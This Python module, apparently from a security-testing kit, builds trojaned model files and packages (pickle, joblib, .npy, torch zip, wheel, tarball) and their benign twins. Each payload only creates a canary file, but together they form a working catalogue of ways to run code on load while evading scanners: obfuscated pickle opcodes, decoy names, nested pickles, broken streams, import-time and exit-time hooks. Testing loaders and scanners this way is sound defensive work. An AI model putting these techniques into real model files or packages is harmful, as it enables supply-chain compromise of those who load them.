"""Trojaned model files and their benign twins: the same bytes but for the payload, which creates one empty file."""

from __future__ import annotations

import io
import random
import shlex
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from functools import partial
from typing import TYPE_CHECKING

from telamon.kits.attacks.loading import Loader
from telamon.kits.attacks.pickles import (
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    OBJ,
    POP,
    REDUCE,
    SETITEMS,
    STACK_GLOBAL,
    TUPLE,
    Program,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping, Sequence
    from pathlib import Path


@dataclass(frozen=True, slots=True, kw_only=True)
class Recipe:
    """One way to hide a payload in an artefact.

    Attributes:
        name: Kebab-case.
        loader: What the victim loads it with.
        suffix: The file name's ending; no reader of ours looks at it.
        make: Given the path of the canary, the bytes of an artefact that creates that file when it is loaded; given
            `None`, those of its benign twin. The number decides the model's weights.
    """

    name: str
    loader: Loader
    suffix: str
    make: Callable[[str | None, int], bytes]


def write_artefact(recipe: Recipe, folder: Path, *, canary: Path | None, seed: int) -> Path:
    """Write the trojaned artefact to `folder`, or its benign twin where `canary` is `None`, and return its path.

    Args:
        recipe: How the payload is hidden.
        folder: An existing private folder.
        canary: The file that the payload creates.
        seed: Decides the model's numbers.
    """
    path = folder / f"model{recipe.suffix}"
    path.write_bytes(recipe.make(None if canary is None else str(canary), seed))
    return path


def _model(payload: Program | None, seed: int) -> bytes:
    """A small model as training scripts pickle it: a dictionary of names and weights, and perhaps the payload."""
    weights = random.Random(seed)  # noqa: S311  # a model's numbers, not a secret
    protocol = 2 if payload is None else payload.protocol
    program = Program(protocol=protocol).raw(EMPTY_DICT + MARK).text("name").text("classifier").text("weights")
    program = program.raw(b"](" + b"".join(b"G" + struct.pack(">d", weights.gauss(0, 1)) for _ in range(32)) + b"e")
    if payload is not None:
        program = program.text("calibration").raw(payload.body)
    return program.raw(SETITEMS).finished()


# Payloads ---------------------------------------------------------------------------------------------------------


def shell(canary: str) -> Program:
    """`os.system`, as in nearly every published malicious model."""
    return Program(protocol=2).call("os", "system", f"touch {shlex.quote(canary)}")


def evaluated(canary: str) -> Program:
    """`builtins.exec` of source text, by the look-up of protocol 4."""
    return Program(protocol=4).call("builtins", "exec", f"open({canary!r}, 'w').close()")


def old_instance(canary: str) -> Program:
    """`OBJ`, the instance opcode of protocol 1, which calls as well as REDUCE does."""
    return Program(protocol=2).raw(MARK).global_("os", "system").text(f"touch {shlex.quote(canary)}").raw(OBJ)


def computed_name(canary: str) -> Program:
    """The names of the look-up come from the memo, behind decoys that a scanner looking back takes for them."""
    program = Program(protocol=4).text("posix").raw(MEMOIZE + POP).text("system").raw(MEMOIZE + POP)
    program = program.raw(b"h\x00").raw(b"h\x01").text("collections").raw(POP).text("OrderedDict").raw(POP)
    return program.raw(STACK_GLOBAL + MARK).text(f"touch {shlex.quote(canary)}").raw(TUPLE + REDUCE)


def dotted_name(canary: str) -> Program:
    """A dangerous function reached through the attributes of a harmless module."""
    return Program(protocol=4).call("shutil", "os.system", f"touch {shlex.quote(canary)}")


def unlisted(canary: str) -> Program:
    """A class whose constructor opens a file for writing, on no list of dangerous names that is published."""
    return Program(protocol=4).call("logging", "FileHandler", canary)


def getattr_chain(canary: str) -> Program:
    """`getattr(__import__('os'), 'system')`: the callable is the result of calls."""
    module = Program(protocol=4).call("builtins", "__import__", "os")
    program = Program(protocol=4).call("builtins", "getattr", module, "system")
    return program.raw(MARK).text(f"touch {shlex.quote(canary)}").raw(TUPLE + REDUCE)


def nested(canary: str) -> Program:
    """A pickle within the pickle, loaded by a call."""
    inner = Program(protocol=2).call("os", "system", f"touch {shlex.quote(canary)}").finished()
    text = inner.decode("latin-1")
    program = Program(protocol=4).global_("_pickle", "loads").raw(MARK)
    encoded = Program(protocol=4).call("_codecs", "encode", text, "latin-1")
    return program.raw(encoded.body + TUPLE + REDUCE)


def broken_tail(canary: str) -> Program:
    """The payload runs, then the stream breaks off: tools that parse first and judge later see an error only."""
    return shell(canary).raw(b"\xff")


def partial_call(canary: str) -> Program:
    """A `functools.partial` made by NEWOBJ and called: no dangerous name is called by its own opcode."""
    program = Program(protocol=4).global_("functools", "partial").raw(MARK).global_("os", "system")
    program = program.text(f"touch {shlex.quote(canary)}").raw(TUPLE + NEWOBJ)
    return program.raw(EMPTY_TUPLE + REDUCE)


# Envelopes --------------------------------------------------------------------------------------------------------


def bare(pickle: bytes) -> bytes:
    """The pickle itself."""
    return pickle


def joblib_zlib(pickle: bytes) -> bytes:
    """As `joblib.dump(compress=3)` writes it."""
    return zlib.compress(pickle, 3)


def numpy_objects(pickle: bytes) -> bytes:
    """An `.npy` file of one object, as `numpy.save` writes it (NEP 1, format version 1.0)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    padded = header + " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(padded)) + padded.encode("ascii") + pickle


def torch_zip(pickle: bytes) -> bytes:
    """A torch archive: stored members below one folder."""
    return _zip({"archive/data.pkl": pickle, "archive/version": b"3\n", "archive/byteorder": b"little"})


def torch_zip_wrong_crc(pickle: bytes) -> bytes:
    """A torch archive whose checksums are wrong; torch's reader does not look at them (CVE-2025-10156)."""
    archive, checksum = torch_zip(pickle), struct.pack("<I", zlib.crc32(pickle))
    return archive.replace(checksum, b"\0\0\0\0")


def wheel(pickle: bytes) -> bytes:
    """A package that loads its own weights when it is imported, as published ones do."""
    code = (
        b"import pickle, pathlib\nMODEL = pickle.loads(pathlib.Path(__file__).with_name('weights.bin').read_bytes())\n"
    )
    return _package(code, {"weights.bin": pickle})


def tarball(pickle: bytes) -> bytes:
    """A gzipped tar of one model, as projects attach to releases."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        member = tarfile.TarInfo("release/model.bin")
        member.size = len(pickle)
        archive.addfile(member, io.BytesIO(pickle))
    return buffer.getvalue()


# Code of packages --------------------------------------------------------------------------------------------------


def at_import(canary: str) -> str:
    """A shell command when the package is imported, as in nearly every malicious package that was published."""
    return f"import os\nos.system({f'touch {shlex.quote(canary)}'!r})\n"


def at_exit(canary: str) -> str:
    """A program that is started when the process ends, long after the import."""
    return f"import atexit, subprocess\natexit.register(subprocess.call, ['touch', {canary!r}])\n"


def in_native_call(canary: str) -> str:
    """A call of the C library, which no hook of Python's sees in whole."""
    return f"import ctypes\nctypes.CDLL(None).system({f'touch {shlex.quote(canary)}'.encode()!r})\n"


def package_recipes(payloads: Sequence[Callable[[str], str]]) -> tuple[Recipe, ...]:
    """Return a wheel for each payload in the code of its package.

    Args:
        payloads: Given the path of the canary, return Python source that creates that file.
    """
    return tuple(
        Recipe(
            name=f"package-{each.__name__}".replace("_", "-"),
            loader=Loader.IMPORT,
            suffix=".whl",
            make=partial(_coded, each),
        )
        for each in payloads
    )


def _coded(payload: Callable[[str], str], canary: str | None, seed: int) -> bytes:
    return _package(f"MODEL = {seed}\n{'' if canary is None else payload(canary)}".encode(), {})


def _package(code: bytes, data: Mapping[str, bytes]) -> bytes:
    metadata = b"Metadata-Version: 2.1\nName: victim-package\nVersion: 1.0\n"
    files = {f"victim_package/{name}": content for name, content in data.items()}
    return _zip({"victim_package/__init__.py": code, **files, "victim_package-1.0.dist-info/METADATA": metadata})


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return buffer.getvalue()


def recipes(
    loader: Loader, payloads: Sequence[Callable[[str], Program]], **envelopes: Callable[[bytes], bytes]
) -> tuple[Recipe, ...]:
    """Return every combination of the payloads and the envelopes, which are named by their file suffix.

    Args:
        loader: What the victims load them with.
        payloads: Given the path of the canary, push an object whose making creates that file.
        envelopes: Given the pickle, the file around it.
    """
    return tuple(
        Recipe(
            name=f"{payload.__name__}-{envelope.__name__}".replace("_", "-"),
            loader=loader,
            suffix="." + suffix,
            make=partial(_pickled, payload, envelope),
        )
        for payload in payloads
        for suffix, envelope in envelopes.items()
    )


def _pickled(
    payload: Callable[[str], Program], envelope: Callable[[bytes], bytes], canary: str | None, seed: int
) -> bytes:
    return envelope(_model(None if canary is None else payload(canary), seed))
